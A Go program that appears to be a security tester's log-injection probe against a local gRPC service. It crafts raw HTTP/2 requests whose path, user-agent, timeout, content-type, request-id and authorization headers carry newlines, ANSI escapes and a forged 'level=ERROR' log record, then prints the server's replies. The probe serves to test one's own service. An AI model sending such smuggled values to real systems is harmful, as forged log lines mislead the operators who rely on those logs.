// Command loginj5 is the fifth pass's log-injection probe on the gRPC
// listener: HTTP/2 (h2c) requests whose :path, user-agent, grpc-timeout
// and content-type carry newlines, ANSI escapes and fake "level=ERROR"
// records, with a token (-token) or without; prints what came back. Read
// the daemon's log afterwards for a line that starts with the fake record.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"log"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:50051", "gRPC listener")
	token := flag.String("token", "", "bearer token")
	flag.Parse()
	inj := "x\ntime=2026-01-01T00:00:00Z level=ERROR msg=INJECTED5 \x1b[31mred\x1b[0m"
	cases := []map[string]string{
		{":path": "/classifier.v1.ClassifierService/Route" + inj},
		{":path": "/" + inj + "/Route"},
		{"user-agent": inj},
		{"grpc-timeout": inj},
		{"content-type": "application/grpc" + inj},
		{"x-request-id": inj},
		{"authorization": "Bearer " + inj},
	}
	for _, c := range cases {
		conn, err := net.Dial("tcp", *addr)
		if err != nil {
			log.Fatal(err)
		}
		_, _ = conn.Write([]byte(http2.ClientPreface))
		fr := http2.NewFramer(conn, conn)
		_ = fr.WriteSettings()
		var hb bytes.Buffer
		enc := hpack.NewEncoder(&hb)
		h := map[string]string{":method": "POST", ":scheme": "http", ":authority": "127.0.0.1", ":path": "/classifier.v1.ClassifierService/Route",
			"content-type": "application/grpc", "te": "trailers"}
		if *token != "" {
			h["authorization"] = "Bearer " + *token
		}
		for k, v := range c {
			h[k] = v
		}
		for _, k := range []string{":method", ":scheme", ":authority", ":path"} {
			_ = enc.WriteField(hpack.HeaderField{Name: k, Value: h[k]})
			delete(h, k)
		}
		for k, v := range h {
			_ = enc.WriteField(hpack.HeaderField{Name: k, Value: v})
		}
		_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: true})
		_ = fr.WriteData(1, true, []byte{0, 0, 0, 0, 0})
		_ = conn.SetReadDeadline(time.Now().Add(3 * time.Second))
		var got []string
		fr.ReadMetaHeaders = hpack.NewDecoder(65536, nil)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				got = append(got, "end: "+err.Error())
				break
			}
			switch f := f.(type) {
			case *http2.MetaHeadersFrame:
				for _, hf := range f.Fields {
					if hf.Name == "grpc-status" || hf.Name == "grpc-message" || hf.Name == ":status" {
						got = append(got, hf.Name+"="+hf.Value)
					}
				}
			case *http2.GoAwayFrame:
				got = append(got, fmt.Sprintf("GOAWAY %v %q", f.ErrCode, f.DebugData()))
			case *http2.RSTStreamFrame:
				got = append(got, fmt.Sprintf("RST %v", f.ErrCode))
			}
			if len(got) > 4 {
				break
			}
		}
		conn.Close()
		for k := range c {
			fmt.Printf("%-14s %q\n", k, got)
		}
	}
}
